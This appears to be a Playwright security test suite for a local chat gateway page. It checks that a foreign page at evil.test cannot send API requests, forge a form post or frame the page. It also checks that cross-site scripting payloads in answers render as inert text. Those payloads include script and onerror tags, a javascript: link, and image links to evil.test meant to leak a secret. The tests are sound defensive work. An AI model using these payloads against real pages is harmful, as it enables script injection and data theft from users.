"""Other pages in the same browser cannot use the gateway, and no answer runs code."""

import contextlib
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from browser import Open, Served, answer_of, ask, expect_verdict, only_posts
from playwright.sync_api import BrowserContext, Error, Page, expect
from rawserver import DONE, HEAD, LAST_CHUNK, PLAIN_ANSWER, STOP, RawServer, Serve, chunk, event

pytestmark = pytest.mark.thorough

pytest_plugins = ["rawserver", "browser"]


@pytest.fixture
def foreign(context: Callable[..., BrowserContext]) -> Iterator[Page]:
    """A page of another site, which a server on this machine serves."""

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = b"<!doctype html><title>evil</title>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with contextlib.ExitStack() as stack:
        site = stack.enter_context(ThreadingHTTPServer(("127.0.0.1", 0), Site))
        threading.Thread(target=site.serve_forever, daemon=True).start()
        stack.callback(site.shutdown)
        page = context().new_page()
        page.goto(f"http://evil.test:{site.server_address[1]}/")
        yield page


@pytest.fixture
def server(serve: Serve) -> RawServer:
    return serve(*PLAIN_ANSWER, reads=only_posts)


@pytest.mark.parametrize("content_type", ["text/plain", "application/json"])
def test_a_foreign_page_cannot_send_a_request_even_with_the_token(
    server: RawServer, served: Served, foreign: Page, content_type: str
) -> None:
    origin, token = served(server).split("/#token=")
    result = foreign.evaluate(
        """([url, token, type]) => fetch(url, {
            method: "POST", body: "{}", headers: { Authorization: `Bearer ${token}`, "Content-Type": type },
        }).then((response) => response.status, (error) => error.name)""",
        [f"{origin}/v1/chat/completions", token, content_type],
    )
    assert result == "TypeError"
    assert server.requests == []


def test_a_foreign_page_cannot_post_without_cors(server: RawServer, served: Served, foreign: Page) -> None:
    origin = served(server).split("/#")[0]
    foreign.evaluate(
        """(url) => fetch(url, { method: "POST", mode: "no-cors", body: "{}" }).then(() => "", () => "")""",
        f"{origin}/v1/chat/completions",
    )
    assert server.requests == []


def test_a_forged_form_is_refused(server: RawServer, served: Served, foreign: Page) -> None:
    origin = served(server).split("/#")[0]
    with foreign.expect_response(f"{origin}/**") as response:
        foreign.evaluate(
            """(url) => {
                const form = document.createElement("form");
                Object.assign(form, { method: "POST", enctype: "text/plain", action: url });
                document.body.append(form);
                setTimeout(() => form.submit());
            }""",
            f"{origin}/v1/chat/completions",
        )
    assert response.value.status == 403
    assert server.requests == []


def test_another_name_that_resolves_to_this_machine_is_refused(
    server: RawServer, served: Served, context: Callable[..., BrowserContext]
) -> None:
    port = served(server).split("/#")[0].rsplit(":", 1)[1]
    response = context().new_page().goto(f"http://evil.test:{port}/")
    assert response
    assert response.status == 403


def test_a_foreign_page_cannot_show_the_page_in_a_frame(server: RawServer, served: Served, foreign: Page) -> None:
    url = served(server)
    foreign.evaluate(
        """(url) => new Promise((loaded) => {
            const frame = document.createElement("iframe");
            frame.onload = loaded;
            frame.src = url;
            document.body.append(frame);
        }).then(() => null)""",
        url,
    )
    framed = foreign.frames[1]
    with contextlib.suppress(Error):
        assert framed.locator("#prompt").count() == 0
    assert "chrome-error" in framed.url


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>",
        "![tea](http://evil.test/leak.png?secret) <img src=http://evil.test/leak.png>",
        "[tea](javascript:document.title='hacked') http://evil.test/",
    ],
    ids=["a script", "an image", "a link"],
)
def test_html_in_an_answer_is_shown_as_text_and_not_executed(
    serve: Serve, served: Served, visit: Open, text: str
) -> None:
    server = serve(HEAD, *map(chunk, (event(text), STOP, DONE)), LAST_CHUNK, reads=only_posts)
    page = visit(served(server))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    ask(page, text)
    expect_verdict(page, "complete")
    assert answer_of(page) == text
    expect(page.locator(".answer > span > *, .question > *, #conversation :is(a, img, script)")).to_have_count(0)
    assert [url.rsplit("/", 1)[1] for url in asked] == ["completions"]
    assert page.title() == "smai"
